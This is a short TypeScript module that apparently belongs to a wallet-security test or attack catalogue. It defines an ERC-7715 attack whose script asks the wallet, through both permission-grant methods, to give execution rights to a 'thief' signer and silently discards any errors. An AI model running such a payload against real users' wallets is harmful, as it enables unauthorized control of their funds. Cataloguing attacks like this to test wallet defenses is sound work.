import type { Attack } from '../Attack.ts';

/** ERC-7715: a power for later. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'wallet_grantPermissions and wallet_requestExecutionPermissions',
  discovers: true,
  script: `
const wallet = await kit.wallet();
for (const method of ['wallet_grantPermissions', 'wallet_requestExecutionPermissions']) wallet.request({ method, params: [{ signer: kit.thief, context: kit.hex }] }).catch(() => undefined);
`,
};
